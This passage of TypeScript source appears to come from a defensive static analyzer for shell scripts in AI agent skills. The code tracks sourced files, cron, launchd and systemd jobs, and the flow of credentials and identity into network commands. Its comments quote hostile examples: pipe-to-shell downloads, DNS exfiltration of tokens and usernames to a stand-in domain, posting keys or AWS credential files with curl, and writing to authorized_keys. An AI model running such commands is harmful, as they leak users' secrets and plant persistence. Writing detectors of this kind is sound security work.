  if (!cmds.length || !ctx.sibling) return undefined;
  const shipped = new Shipped(facts, new Flow(facts, ctx.deadline), path, ctx.sibling);
  const out = new Map<number, T>();
  for (const f of cmds) {
    const file = shipped.file(named(f));
    if (!file || file.path === path || file.text.length > MAX_SOURCED || file.text.includes('\0'))
      continue;
    const value = read(f, file);
    if (value !== undefined) out.set(f.cmd.start, value);
  }
  return out.size ? out : undefined;
}

/** how deep sourced files that source files are built in (the script's own `source` is depth 1) */
const MAX_SOURCE_DEPTH = 3;

/**
 * The files of the skill the script's `source F`/`. F` commands run in its own shell, by the
 * offset of each command: built in place, their functions and settings are the script's (`.
 * "$(dirname "$0")/lib.sh"; pull URL | run`, `source ./update.conf; curl "$UPDATE_URL"`). What
 * those files source is built into them the same way (lib.sh sourcing lib/net.sh), named from the
 * sourced file's folder, up to MAX_SOURCE_DEPTH files deep; a file already on the chain is not
 * sourced again.
 */
function sourcedFiles(
  facts: Facts,
  path: string,
  ctx: AnalyzerContext,
  chain: readonly string[] = [path],
): Includes | undefined {
  const sources = facts.facts.filter(
    (f) => (f.name === 'source' || f.name === '.') && f.args[0] && !f.wrappers.length,
  );
  return shippedTexts(
    facts,
    path,
    ctx,
    sources,
    (f) => f.args[0] as Val,
    (_, file): Included | undefined => {
      if (chain.includes(file.path)) return undefined;
      const text = prepareShell(file.text);
      if (chain.length >= MAX_SOURCE_DEPTH) return { text };
      const inner = sourcedFiles(new Facts(parseScript(text, ctx.deadline)), file.path, ctx, [
        ...chain,
        file.path,
      ]);
      return inner ? { text, includes: inner } : { text };
    },
  );
}

/** the most lines of a shipped file `mapfile` reads that become the array's words */
const MAX_ARRAY_LINES = 256;

/**
 * `mapfile -t ARR < F`/`readarray`, F a file of the skill (as `source` names one): the array holds
 * F's lines, by the offset of each command, as one text of words (`"${ARR[@]}" | bash` then runs
 * what F lists). Only `-t`, `-n COUNT` and `-s SKIP` are understood; another option (a delimiter,
 * an origin, a callback, a descriptor) leaves the array unknown.
 */
function shippedArrays(
  facts: Facts,
  path: string,
  ctx: AnalyzerContext,
): Map<number, string> | undefined {
  const reads = facts.facts.filter(
    (f) =>
      (f.name === 'mapfile' || f.name === 'readarray' || f.name === 'read') &&
      f.stdinFile &&
      !f.cmd.stdin.length &&
      !f.wrappers.length,
  );
  return shippedTexts(
    facts,
    path,
    ctx,
    reads,
    (f) => f.stdinFile as Val,
    (f, file) => (f.name === 'read' ? readLines(f.args, file.text) : arrayLines(f.args, file.text)),
  );
}

/**
 * the lines `read -r NAME` takes from `text`, one a turn of a `while` loop, joined by line breaks;
 * undefined for options other than -r or more than one name (the line split into fields)
 */
function readLines(args: readonly Val[], text: string): string | undefined {
  const names = args.filter((a) => !a.s.startsWith('-'));
  if (names.length !== 1 || args.some((a) => !a.known || (a.s.startsWith('-') && a.s !== '-r')))
    return undefined;
  const lines = text
    .replace(/\r/g, '')
    .split('\n')
    .map((l) => l.trim());
  if (lines.at(-1) === '') lines.pop();
  return lines.length && lines.length <= MAX_ARRAY_LINES ? lines.join('\n') : undefined;
}

/** the words `mapfile ARGS` gives its array from `text`, or undefined for options not understood */
function arrayLines(args: readonly Val[], text: string): string | undefined {
  let skip = 0;
  let count = 0;
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as Val;
    if (!a.known) return undefined;
    if (!a.s.startsWith('-')) continue;
    const m = /^-([ns])(\d*)$/.exec(a.s);
    if (m) {
      const v = m[2] || args[++i]?.s;
      if (!v || !/^\d+$/.test(v)) return undefined;
      if (m[1] === 'n') count = Number(v);
      else skip = Number(v);
    } else if (a.s !== '-t') return undefined;
  }
  let lines = text.replace(/\r/g, '').split('\n');
  if (lines.at(-1) === '') lines.pop();
  lines = lines.slice(skip, count ? skip + count : undefined);
  if (lines.length > MAX_ARRAY_LINES) return undefined;
  return lines.join(' ');
}

export class BashRun {
  readonly facts: Facts;
  readonly flow: Flow;
  readonly outputs: StaticOutputs;
  readonly rcEnv: RcEnv;

  readonly file: SourceFile;

  constructor(
    file: SourceFile,
    readonly ctx: AnalyzerContext,
  ) {
    const text = prepareShell(file.text);
    this.file = text === file.text ? file : { path: file.path, text };
    const script = parseScript(text, ctx.deadline);
    const first = new Facts(script);
    const includes = sourcedFiles(first, this.file.path, ctx);
    const arrays = shippedArrays(first, this.file.path, ctx);
    // the facts of the script as parsed are kept when no shipped file is built in (building them
    // reads the script only, so a second build of the same script is the same facts)
    this.facts =
      includes || arrays ? new Facts(parseScript(text, ctx.deadline, includes, arrays)) : first;
    markSelfInstalls(this.facts.facts, () => ctx.ownNames?.() ?? []);
    markRestores(this.facts);
    markOwnReads(this.facts, () => ctx.ownNames?.() ?? []);
    markConfigKeys(this.facts);
    this.flow = new Flow(this.facts, ctx.deadline);
    this.flow.shipped = (v) => this.shipped.file(v) !== undefined;
    this.outputs = new StaticOutputs(this.facts, (v) => this.shipped.file(v)?.text);
    this.rcEnv = new RcEnv(this.facts);
  }

  evidence(f: CmdFact): string {
    return this.excerpt(f.cmd.start, f.cmd.end);
  }

  /**
   * The evidence of a flow from `from` into `f`: from the start of `from` to the end of `f` when
   * `from` comes first on the same line (`curl -s URL | sh`, not only `sh`), else `f`'s own text.
   */
  evidenceFrom(from: CmdFact, f: CmdFact): string {
    return from.cmd.line === f.cmd.line &&
      from.cmd.start < f.cmd.start &&
      f.cmd.end > from.cmd.start
      ? this.excerpt(from.cmd.start, f.cmd.end)
      : this.evidence(f);
  }

  private excerpt(from: number, to: number): string {
    // tree-sitter offsets are UTF-8 bytes; for evidence a cut by characters is close enough
    const text = this.file.text;
    const start = Math.min(from, text.length);
    return text
      .slice(start, Math.min(to, start + 400))
      .replace(/\s+/g, ' ')
      .trim();
  }

  /**
   * An earlier command of the same program that `earlier` matches names the subject of `f` (its
   * last positional argument, by base name without a .plist/.service extension): `launchctl
   * unload X` (or `bootout gui/501/LABEL`) before `launchctl load X` makes the load a restart.
   * Subjects only known at run time never compare equal.
   */
  followsSameSubject(f: CmdFact, earlier: (g: CmdFact) => boolean): boolean {
    const subject = (v: string | undefined) => {
      const base = v
        ?.replace(/\/+$/, '')
        .split('/')
        .pop()
        ?.replace(/\.(?:plist|service|timer|socket|path)$/i, '');
      return base && !base.includes(UNKNOWN) ? base : undefined;
    };
    const key = subject(f.positional.at(-1)?.s);
    if (!key) return false;
    for (const g of this.facts.facts) {
      if (g.id >= f.id) break;
      if (g.fam !== f.fam || !earlier(g)) continue;
      if (g.positional.some((p) => subject(p.s) === key)) return true;
    }
    return false;
  }

  /**
   * What a command's stdin adds to its own program's table (`crontab -`), source by source, when
   * all it reads is that program's listing (`crontab -l`, which must read nothing itself), filters
   * of it that only drop lines (grep -v with a pattern and no file, sed whose only script deletes
   * matching lines, awk printing the lines a pattern does not match, sort, uniq, cat with no file),
   * echo/printf and heredocs: one list of texts per adding source (none for a pure listing).
   * Undefined when anything else feeds it (a file, another program, a group that reads one).
   */
  private tableAdds(f: CmdFact): Val[][] | undefined {
    const adds: Val[][] = [];
    const back = (g: CmdFact, depth: number): boolean => {
      if (depth > 8) return false;
      if (g.inputVal) {
        adds.push([g.inputVal]);
        return true;
      }
      if (!g.cmd.stdin.length || g.cmd.redirects.some((r) => r.op === '<')) return false;
      return g.cmd.stdin.every((id) => {
        const h = this.flow.fact(id);
        if (!h) return false;
        if (listsOwn(h, f.fam)) return !h.inputVal && !h.cmd.redirects.some((r) => r.op === '<');
        if (h.fam === 'echo') {
          adds.push(printedArgs(h).filter((a) => !/^-[neE]+$/.test(a.s)));
          return true;
        }
        if (h.fam === 'printf') {
          const texts = printfTexts(h);
          if (!texts) return false;
          adds.push(texts);
          return true;
        }
        return dropsLines(h) && back(h, depth + 1);
      });
    };
    return back(f, 0) ? adds : undefined;
  }

  /**
   * All the command reads on stdin is its own program's listing with lines taken out: `crontab -l
   * | grep -v weather | crontab -` removes a job, it adds none (tableAdds); anything else on the
   * way (`echo`, a file, a group or subshell that adds a line) and it counts.
   */
  /**
   * What the command writes is a program's own shell completion script (match key `notWriter:
   * [completion]`): it prints one itself (`gh completion -s bash > F`), or it is a `tee` fed only
   * through a pipe by such programs (`kubectl completion bash | sudo tee F`)
   */
  writesOwnCompletion(f: CmdFact): boolean {
    if (printsOwnCompletion(f)) return true;
    if (f.fam !== 'tee' || !f.cmd.stdin.length || f.inputVal) return false;
    if (f.cmd.redirects.some((r) => r.op === '<')) return false;
    return f.cmd.stdin.every((id) => {
      const g = this.flow.fact(id);
      return g !== undefined && printsOwnCompletion(g);
    });
  }

  prunesOwnList(f: CmdFact): boolean {
    return this.tableAdds(f)?.length === 0;
  }

  /**
   * What a job table fed to `crontab -` adds is only jobs that run the skill's own scripts
   * (`(crontab -l; echo "0 * * * * python3 $DIR/digest.py >> $DIR/log 2>&1") | crontab -`, a
   * heredoc, `echo … | crontab -`): every text tableAdds finds is lines that are each a schedule
   * and a command of `cd`, the skill's own script (by its folder, `{baseDir}`, or the agent's
   * skills folder under the skill's own name) with or without its interpreter, and redirections.
   * A job doing anything else, a table from a file or another program's output: no.
   */
  private addsOwnJobs(f: CmdFact): boolean {
    if (f.positional.some((p) => p.s !== '-')) return false;
    const texts = this.tableAdds(f)?.flat() ?? [];
    if (!texts.length) return false;
    const listing = (g: CmdFact | undefined) => g !== undefined && listsOwn(g, f.fam);
    let jobs = 0;
    for (const v of texts) {
      // a line that is only a command's output is the listing when that is all the text runs
      // (`crontab - <<EOF` / `$(crontab -l)` / a new job / `EOF`)
      const sources = [...this.flow.val(v)].map((id) => this.flow.fact(id));
      const listed =
        sources.some(listing) &&
        sources.every((g) => listing(g) || (g !== undefined && DIR_COMMANDS.has(g.fam)));
      for (const line of lineVals(v)) {
        const job = line.s.trim();
        if (!job || job.startsWith('#') || HARMLESS_CRON_ENV.test(job)) continue;
        if (job === UNKNOWN && listed) continue;
        const m = /^(?:@\w+|(?:\S+\s+){5})(.+)$/.exec(job);
        if (!m || !this.runsOwnScript(m[1] as string, line)) return false;
        jobs++;
      }
    }
    return jobs > 0;
  }

  /**
   * The command copies only files the skill ships into place (match key `notCopy: [shipped]`):
   * `cp`/`install` whose every source (each positional but the last, the target) names a file
   * of the skill the script does not write (shipped.ts), `cp "$(dirname "$0")/x.py" "$SITE/"`
   */
  copiesShipped(f: CmdFact): boolean {
    if (f.fam !== 'cp' && f.fam !== 'install') return false;
    const sources = copySources(f);
    return sources.length > 0 && sources.every((v) => this.shipped.file(v, f) !== undefined);
  }

  /**
   * The command puts in place only files under a folder the user passes to the script (match key
   * `notCopy: [argument]`): `ln`/`cp`/`install` whose every source begins with a value built from
   * a positional parameter (`ln -sfn "$repo/.zshrc" ~/.zshrc` after `repo="${1:?usage}"`)
   */
  placesArgumentFile(f: CmdFact): boolean {
    if (f.fam !== 'ln' && f.fam !== 'cp' && f.fam !== 'install') return false;
    const sources = copySources(f);
    return (
      sources.length > 0 &&
      sources.every((v) => {
        const names = [...v.vars, ...(v.deep ?? [])];
        return (
          v.s.startsWith(UNKNOWN) &&
          names.some((n) => /^[1-9]$/.test(n)) &&
          names.every((n) => !/^(?:0|BASH_SOURCE)$/.test(n))
        );
      })
    );
  }

  /**
   * The job a command installs runs only the skill's own scripts (match key `job: [own]`): the
   * table `crontab -` reads (addsOwnJobs), a launchd plist or systemd unit the command writes
   * (ownServiceText), or `launchctl load/bootstrap`, `systemctl enable/link` of a plist or unit
   * by path that the script wrote so and nothing else wrote.
   */
  installsOwnJob(f: CmdFact): boolean {
    if (f.fam === 'crontab') return this.addsOwnJobs(f);
    if (f.writes.some((w) => SERVICE_FILE.test(w)))
      return (
        this.ownServiceText(f) &&
        f.writes.every((w) => !SERVICE_FILE.test(w) || !this.editedInPlace(baseName(w)))
      );
    if (f.fam !== 'launchctl' && f.fam !== 'systemctl') return false;
    // every plist or unit the command loads or enables (`enable /tmp/x.service own.timer`)
    const targets = f.positional.filter((p) => !SERVICE_VERB.test(p.s));
    return (
      targets.length > 0 &&
      targets.every((t) => {
        const name = baseName(t.s);
        if (!name || name.includes(UNKNOWN) || this.editedInPlace(name)) return false;
        const writers = this.facts.facts.filter(
          (g) => g.id < f.id && g.writes.some((w) => baseName(w) === name),
        );
        return writers.length > 0 && writers.every((g) => this.ownServiceText(g));
      })
    );
  }

  /**
   * a command of the script edits a file of this name in place (`PlistBuddy -c "Set
   * :ProgramArguments:1 …"`, `plutil -replace`, `defaults write`, `sed -i`): what the job runs is
   * no longer the text written
   */
  private editedInPlace(name: string): boolean {
    return this.facts.facts.some(
      (g) =>
        IN_PLACE_EDITORS.has(g.fam.toLowerCase()) &&
        ((g.fam !== 'sed' && g.fam !== 'perl') || [...g.flags].some((x) => x.startsWith('-i'))) &&
        g.args.some(
          (a) => baseName(a.s) === name || baseName(a.s) === name.replace(/\.plist$/, ''),
        ),
    );
  }

  /** the text a command writes into a launchd plist or systemd unit runs only the skill's own scripts */
  private ownServiceText(g: CmdFact, timerOk = true): boolean {
    const texts = g.inputVal
      ? [g.inputVal]
      : g.fam === 'echo'
        ? printedArgs(g).filter((a) => !/^-[neE]+$/.test(a.s))
        : g.fam === 'printf'
          ? (printfTexts(g) ?? [])
          : [];
    if (!texts.length) return false;
    return texts.every((v) => {
      const lines = lineVals(v);
      const text = v.s;
      if (RUN_CHANGING_SETTING.test(text)) return false;
      // the program starts in WorkingDirectory: a relative script is looked for there
      const wd = WORKING_DIRECTORY.exec(text);
      const cwd = wd ? (wd[1] ?? wd[2] ?? '').trim() : undefined;
      const inDir = (command: string) => (cwd ? `cd ${quoteWord(cwd)} && ${command}` : command);
      const wdVars = wd
        ? (lines.find((l) => l.s.includes(wd[0].split('\n')[0] as string))?.vars ?? [])
        : [];
      // a launchd plist: ProgramArguments (or Program) is the command, output paths by name
      if (/<key>\s*Program(?:Arguments)?\s*<\/key>/.test(text)) {
        const outputs = [
          ...text.matchAll(/<key>\s*Standard(?:Out|Error)Path\s*<\/key>\s*<string>([^<]*)</g),
        ].map((m) => (m[1] as string).trim());
        if (outputs.some((o) => !OWN_OUTPUT.test(o) || SENSITIVE_TARGET.test(o))) return false;
        // Program (the executable) and ProgramArguments (its argv) each run only what is own
        const keys = lines.flatMap((l, i) =>
          /<key>\s*Program(?:Arguments)?\s*<\/key>/.test(l.s) ? [i] : [],
        );
        return keys.every((start) => {
          const closer = /ProgramArguments/.test(lines[start]?.s ?? '')
            ? /<\/array>/
            : /<\/string>/;
          const end = lines.findIndex((l, i) => i >= start && closer.test(l.s));
          const block = lines.slice(start, end < 0 ? undefined : end + 1);
          const args = [
            ...block
              .map((l) => l.s)
              .join('\n')
              .matchAll(/<string>([^<]*)<\/string>/g),
          ]
            .map((m) => (m[1] as string).trim())
            .filter(Boolean);
          const vars = [...new Set([...block.flatMap((l) => l.vars), ...wdVars])];
          return (
            args.length > 0 &&
            this.runsOwnScript(inDir(args.map(quoteWord).join(' ')), { ...v, vars })
          );
        });
      }
      // a systemd unit: every Exec line; a timer runs the services the script writes, which
      // must all be such units
      const execs = lines.filter((l) => /^\s*Exec\w*\s*=/.test(l.s));
      if (!execs.length)
        return (
          timerOk &&
          /^\s*\[Timer\]/m.test(text) &&
          !/^\s*\[Service\]/m.test(text) &&
          this.facts.facts.every(
            (h) =>
              h === g ||
              !h.writes.some((w) => SERVICE_FILE.test(w)) ||
              this.ownServiceText(h, false),
          )
        );
      return execs.every((l) =>
        this.runsOwnScript(inDir(l.s.replace(/^\s*Exec\w*\s*=\s*[-@:+!]*/, '')), {
          ...l,
          vars: [...new Set([...l.vars, ...wdVars])],
        }),
      );
    });
  }

  /**
   * A job's command line that only changes folder and runs the skill's own scripts: each command
   * (after `&&`, `||`, `;`, `&` or a line break) is `cd` or an own script with or without its
   * interpreter, and what a pipe feeds is only `logger` or `tee` into a log. A relative script is
   * the skill's only below a `cd` into the skill's folder (cron starts in the home folder, launchd
   * and systemd in `/`). Interpreter options that name what runs (`-c`, `-m`, `node -r`,
   * `--require=…`, `python3 - FILE`), cron's `%` (the rest of the line is the job's stdin) and
   * escapes a shell or echo turns into separators are no own job.
   */
  private runsOwnScript(command: string, from: Val): boolean {
    const own = this.ctx.ownNames?.() ?? [];
    const written = this.facts.facts.flatMap((g) =>
      !FOLDER_FILLERS.has(g.fam)
        ? []
        : g.fam === 'rsync'
          ? [...g.writes, g.positional.at(-1)?.s ?? '']
          : g.writes,
    );
    const isOwn = (word: string): boolean => {
      const path = word.replace(/^["']|["']$/g, '');
      // a folder the script fills from elsewhere (`tar xz -C "$DIR"`, `git clone URL "$DIR"`)
      // holds no script of the skill's own any more
      const norm = normPath(path);
      if (written.some((w) => w && norm.startsWith(`${normPath(w).replace(/\/$/, '')}/`)))
        return false;
      // the agent's skills folder in the user's home (`~/.openclaw/skills/<own>/…`,
      // `$HOME/.claude/skills/<own>/…`), not any folder called skills
      const inSkills = AGENT_SKILLS_PATH.exec(path);
      const home = path.startsWith('~') || from.vars.includes('HOME');
      if (inSkills && home && own.includes(inSkills[1] as string))
        return this.shipped.file({ ...from, s: inSkills[2] as string, vars: [] }) !== undefined;
      return this.shipped.file({ ...from, s: path }) !== undefined;
    };
    // cron's `%` ends the command (what follows is its stdin); backslash escapes hide separators
    if (/(?<!\\)%|\\(?!%)/.test(command)) return false;
    // output goes to a log beside the script, a relative file or nowhere; a redirect into the
    // user's files (`> ~/.ssh/authorized_keys`) runs on every tick
    let redirectsOk = true;
    const rest = command.replace(/\s(?:\d|&)?>>?\s*(&\d|\S+)/g, (_all, target: string) => {
      const t = target.replace(/^["']|["']$/g, '');
      if (!OWN_OUTPUT.test(t) || t.includes('..') || SENSITIVE_TARGET.test(t)) redirectsOk = false;
      return ' ';
    });
    if (!redirectsOk || /[<`]|\$\(/.test(rest)) return false;
    let cwd: string | undefined;
    return rest.split(/&&|\|\||;|&|\n/).every((pipeline) => {
      const [first, ...fed] = pipeline.split('|');
      // a pipe only into the system log or a log file
      const logs = fed.every((seg) => {
        const w = seg.trim().split(/\s+/);
        if (w[0] === 'logger') return true;
        const file = w.slice(1).filter((x) => !x.startsWith('-'));
        return w[0] === 'tee' && file.length === 1 && OWN_OUTPUT.test(file[0] as string);
      });
      if (!logs) return false;
      const all = (first as string).trim().split(/\s+/);
      // `TZ=UTC python3 …` sets nothing that changes what runs; a loader or search path does
      const assigns = all.filter((w) => /^[A-Za-z_]\w*=/.test(w));
      if (assigns.some((w) => RUN_CHANGING_ENV.test(w) || w.includes('/'))) return false;
      const words = all.filter((w) => !/^[A-Za-z_]\w*=/.test(w));
      if (!words.length) return false;
      if (words[0] === 'cd') {
        cwd = words[1];
        return words.length === 2;
      }
      const run = /^(?:\/usr\/bin\/env|env)$/.test(words[0] as string) ? words.slice(1) : words;
      const head = run[0] as string;
      let script: string | undefined = head;
      if (KNOWN_SCRIPT_INTERPRETER.test(head.split('/').pop() as string)) {
        script = undefined;
        for (const w of run.slice(1)) {
          if (!w.startsWith('-')) {
            script = w;
            break;
          }
          // `python3 -u`, `node --enable-source-maps`, `node --max-old-space-size=4096`
          const harmless = w.startsWith('--')
            ? /^--[a-z][\w-]*(?:=\d+)?$/.test(w) &&
              !/^--(?:eval|print|require|import|loader|experimental-loader|rcfile|init-file|command|module)$/.test(
                w,
              )
            : /^-[A-Za-z]+$/.test(w) && !CODE_OPTION_LETTER.test(w.slice(1));
          if (!harmless) return false;
        }
      }
      if (script === undefined) return false;
      const bare = script.replace(/^["']|["']$/g, '');
      // cron starts in the home folder, launchd and systemd in `/`: a relative script is the
      // skill's only below a `cd` into its folder
      const relative = !/^(?:\/|~|\u0001|\{\w+\})/.test(bare);
      if (relative) return cwd !== undefined && isOwn(`${cwd.replace(/^["']|["']$/g, '')}/${bare}`);
      return isOwn(script);
    });
  }

  /** a command that prints who the user is or what the machine is called */
  private identityMemo = new Map<number, boolean>();

  isIdentitySource(g: CmdFact): boolean {
    let hit = this.identityMemo.get(g.id);
    if (hit === undefined) {
      const text = [g.name, ...g.args.map((a) => a.s)].join(' ');
      hit =
        IDENTITY_COMMAND.test(text) ||
        /^(?:logname|users)$|^id(?:\s+-[a-zA-Z]*n[a-zA-Z]*)?$|^uname\s+-[a-zA-Z]*[an]|^scutil\s+--get\s+HostName\b|^who\s+am\s+i\b|^ioreg\b.*IOPlatform(?:UUID|SerialNumber|ExpertDevice)/.test(
          text,
        ) ||
        // `echo "$USER" | xxd -p`, `base32 <<< "$HOSTNAME"`: an identity variable printed (not
        // in the name of a file it prints, `tail "/tmp/w-$USER.log"`)
        printedArgs(g).some((a) =>
          [...a.vars, ...(a.deep ?? [])].some(
            (n) => IDENTITY_ENV.test(n) && !this.facts.script.assigned.has(n),
          ),
        ) ||
        g.reads.some((r) =>
          /^(?:\/etc\/machine-id|\/var\/lib\/dbus\/machine-id|\/etc\/hostname|\/proc\/sys\/kernel\/hostname|\/sys\/class\/net\/.*\/address)$/.test(
            r,
          ),
        );
      this.identityMemo.set(g.id, hit);
    }
    return hit;
  }

  /** the value holds the user or host name (an identity command's output or variable) */
  private hasIdentity(v: Val): boolean {
    const assigned = this.facts.script.assigned;
    const env = (n: string) => IDENTITY_ENV.test(n) && !assigned.has(n);
    if (v.vars.some(env) || [...(v.deep ?? [])].some(env)) return true;
    for (const c of v.sources) if (this.printsIdentity(c)) return true;
    return false;
  }

  /**
   * The output of a command holds the user or host name: it prints one, or what feeds it does. A
   * command that prints the files it reads (`tail -1 "$LOG"`) prints their text, not their names:
   * an identity in the path (`LOG="/tmp/w-$(whoami).log"`) is not in its output, what wrote the
   * file may be.
   */
  private printsIdentity(id: number): boolean {
    const g = this.flow.fact(id);
    if (!g) return false;
    let from: Set<number>;
    if (fileOperands(g).size) {
      from = new Set([id, ...this.flow.stdin(g), ...this.flow.files(g.reads)]);
      for (const a of printedArgs(g)) for (const s of this.flow.val(a)) from.add(s);
    } else from = this.flow.out(id);
    for (const s of from) {
      const h = this.flow.fact(s);
      if (h && this.isIdentitySource(h)) return true;
    }
    return false;
  }

  /**
   * An upload of a file's text (`-d @FILE`, `-F "f=@FILE"`, `--upload-file FILE`) carries what the
   * file holds, not its name: whether what wrote it printed an identity
   */
  private fileSendsIdentity(path: string): boolean {
    for (const s of this.flow.files([normPath(path)])) {
      const h = this.flow.fact(s);
      if (h && this.isIdentitySource(h)) return true;
    }
    return false;
  }

  /**
   * The environment variables named after a known issuer's credential (`$OPENAI_API_KEY`, directly
   * or through a variable of the script) that a command's arguments or input carry.
   */
  private issuerKeys(f: CmdFact, content?: Set<string>): string[] {
    const assigned = this.facts.script.assigned;
    const out = new Set<string>();
    const bodies = content ? new Set(bodyValues(f)) : undefined;
    /** the issuer-named variables of `a` (not the script's own), each with its issuer */
    const keys = function* (a: Val) {
      for (const n of [...a.vars, ...(a.deep ?? [])]) {
        const issuer = assigned.has(n) ? undefined : issuerOf({ env: n });
        if (issuer) yield [n, issuer] as const;
      }
    };
    let sent: Set<Val> | undefined;
    for (const a of argsAndInput(f))
      for (const [n, issuer] of keys(a)) {
        // a key no client sends counts only where a program that sends what it is given sends
        // it as data: any other program given it may sign with it (`cast send --private-key`,
        // `forge script --private-key`), and so may curl (`--aws-sigv4 --user`)
        if (issuer.neverSent && !(RAW_SENDERS.has(f.fam) || (sent ??= sentValues(f)).has(a)))
          continue;
        out.add(n);
        if (bodies?.has(a) && (keyAsContent(a, n) ?? asContent(a))) content?.add(n);
      }
    // what echo or printf pipes into a command that sends its stdin (`echo "$KEY" | curl -d @- …`)
    if (sendsStdin(f)) {
      const asBody = content && bodyFromStdin(f);
      for (const s of this.flow.stdin(f)) {
        const g = this.flow.fact(s);
        if (!g || (g.fam !== 'echo' && g.fam !== 'printf')) continue;
        for (const a of argsAndInput(g))
          for (const [n] of keys(a)) {
            out.add(n);
            if (asBody) content?.add(n);
          }
      }
    }
    // what a command substitution in the body prints of a key (`-d "{\"body\": \"$(printf %s
    // "$GITHUB_TOKEN" | base64)\"}"`): the key, encoded or not, is the body's
    // (or of a body that is such a substitution's output, `BODY=$(printf '{"body": "%s"}' "$T")`,
    // placed by the body's shape, keyAsContent)
    if (bodies)
      for (const v of bodies)
        for (const s of this.flow.val(v)) {
          const g = this.flow.fact(s);
          if (g)
            for (const a of argsAndInput(g))
              for (const [n] of keys(a)) {
                if (keyAsContent(v, n) ?? asContent(v)) {
                  out.add(n);
                  content?.add(n);
                }
              }
        }
    return [...out].sort();
  }

  /**
   * A value holds a secret the environment gives the script (`$GITHUB_TOKEN`, `$AWS_SECRET_ACCESS_KEY`,
   * a name of the issuer table or one that looks like a secret), directly or through the commands
   * whose output it is (`$(printf %s "$NPM_TOKEN" | xxd -p)`); the script's own variables and the
   * working directory (`$PWD`) do not count. Credential files are bash-exfiltration's flow sources.
   */
  private hasSecretVar(v: Val): boolean {
    const assigned = this.facts.script.assigned;
    const secret = (n: string) => !/^(?:OLD)?PWD$/.test(n) && !assigned.has(n) && secretName(n);
    const holds = (a: Val) => a.vars.some(secret) || [...(a.deep ?? [])].some(secret);
    if (holds(v)) return true;
    for (const s of this.flow.val(v)) {
      const g = this.flow.fact(s);
      if (g && argsAndInput(g).some(holds)) return true;
    }
    return false;
  }

  /**
   * The command sends `kind` of data: the user's or machine's identity in a name it resolves (the
   * labels left of a constant domain, `nslookup $(whoami).x.example`) or in an HTTP client's URL
   * or request body; a secret only in a name it resolves (`dig "$(printf %s "$TOKEN" | xxd -p).x.
   * example"`), since a token in an HTTP request is how APIs authenticate, while a name to look up
   * needs none.
   */
  sends(f: CmdFact, kind: SentKind): boolean {
    if (this.sendsOne(f, kind)) return true;
    // a command of a function body sends what each call gives it (`post() { curl -d "$1" URL; }`
    // … `post "$(whoami)@$(hostname)"`, or the function named in a variable: `f=post; $f …`)
    return (this.facts.instances.get(f.id) ?? []).some((i) => this.sendsOne(i, kind));
  }

  private sendsOne(f: CmdFact, kind: SentKind): boolean {
    if (kind === 'computed') return HTTP_CLIENTS.has(f.fam) && httpSent(f).some(computedSent);
    if (kind === 'credential')
      return (HTTP_CLIENTS.has(f.fam) || f.fam === 'gh') && this.sendsCredential(f);
    const has = (v: Val) => (kind === 'identity' ? this.hasIdentity(v) : this.hasSecretVar(v));
    // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
    let viaStdin: boolean | undefined;
    const stdinCarries = () =>
      (viaStdin ??= [...this.flow.stdin(f)].some((s) => {
        const g = this.flow.fact(s);
        if (!g) return false;
        if (kind === 'identity') return this.isIdentitySource(g);
        return argsAndInput(g).some((a) => this.hasSecretVar(a));
      }));
    for (const p of f.positional) {
      const placeholder =
        f.stdinAsArgs && (f.stdinItems ? p.s.includes(UNKNOWN) : /\{\}|%/.test(p.s));
      if (!p.s.includes(UNKNOWN) && !placeholder) continue;
      const host = (placeholder ? p.s.replace(/\{\}|%/g, UNKNOWN) : p.s)
        .replace(/^[a-z][a-z0-9+.-]*:\/\//i, '')
        .replace(/^[^@/]*@/, '')
        .split(/[/:?#\s]/)[0] as string;
      // the computed labels sit left of a constant registrable domain (`$(whoami).x.example`, not
      // `$(whoami).co.uk` or `$USER.github.io`, whose names belong to others)
      const tail = host.slice(host.lastIndexOf(UNKNOWN) + 1);
      if (
        host.includes(UNKNOWN) &&
        tail.includes('.') &&
        registrable(tail.slice(tail.indexOf('.') + 1)) !== undefined &&
        (has(p) || (placeholder && stdinCarries()))
      )
        return true;
    }
    if (kind === 'secret' || !HTTP_CLIENTS.has(f.fam)) return false;
    return httpSent(f).some(([v, file]) => {
      const path = file?.exec(v.s)?.[1];
      // `printf '{"email":"%s"}' "$email" | curl --data @- …`: the body is what the pipe prints
      if (path === '-') return [...this.flow.stdin(f)].some((s) => this.printsIdentity(s));
      if (path !== undefined) return this.fileSendsIdentity(path);
      return v.s.includes(UNKNOWN) && this.hasIdentity(v);
    });
  }

  /**
   * An HTTP client sends a secret anywhere in its request: a secret-named environment variable in
   * its URL, data, form or header values (also through the commands that print it), or what a
   * command the exfiltration rules take secrets from prints (a credential file, `gh auth token`,
   * the agent's config through jq), in those values, on its stdin or in a file it uploads (the
   * client reading a credential file itself, `--data-binary @"$HOME/.aws/credentials"`). gh
   * sends all its words (a field, a body, a gist's text), authenticating with its own login.
   */
  private sendsCredential(f: CmdFact): boolean {
    const sent = HTTP_CLIENTS.has(f.fam) ? httpSent(f).map(([v]) => v) : f.args;
    if (sent.some((v) => this.hasSecretVar(v))) return true;
    const from = new Set<number>([f.id, ...this.flow.stdin(f)]);
    for (const v of sent) for (const s of this.flow.val(v)) from.add(s);
    return [...from].some((id) => {
      const g = this.flow.fact(id);
      return g !== undefined && this.secretSources.some((t) => t(g));
    });
  }

  /**
   * the payload of an agent scheduler command (`openclaw cron add … --message "…"`, or the
   * gateway's RPC for it, `openclaw gateway call cron.add --params '{"message": "…"}'`), if it is one
   */
  agentJobPayload(f: CmdFact): Val[] | undefined {
    const pos = f.positional.map((p) => p.s);
    const agentCli = OPENCLAW_CLIS.has(f.fam);
    const cron = agentCli && pos[0] === 'cron' && CRON_VERB.test(pos[1] ?? '');
    if (agentCli && pos[0] === 'gateway' && pos[1] === 'call' && /^cron\./.test(pos[2] ?? ''))
      return CRON_VERB.test((pos[2] as string).slice('cron.'.length))
        ? [...(f.opts.get('--params') ?? []), ...f.positional.slice(3)]
        : undefined;
    const scheduled =
      AGENT_SCHEDULER_CLIS.has(f.fam) &&
      ['--schedule', '--cron', '--every'].some((k) => f.flags.has(k));
    if (!cron && !scheduled) return undefined;
    return [
      ...AGENT_PAYLOAD.flatMap((k) => f.opts.get(k) ?? []),
      ...f.positional.slice(cron ? 2 : 0),
    ];
  }

  /**
   * The command line an MCP server registration makes the agent start with every session
   * (`claude mcp add NAME [options] -- CMD ARGS`, `gemini mcp add NAME CMD ARGS`), its words
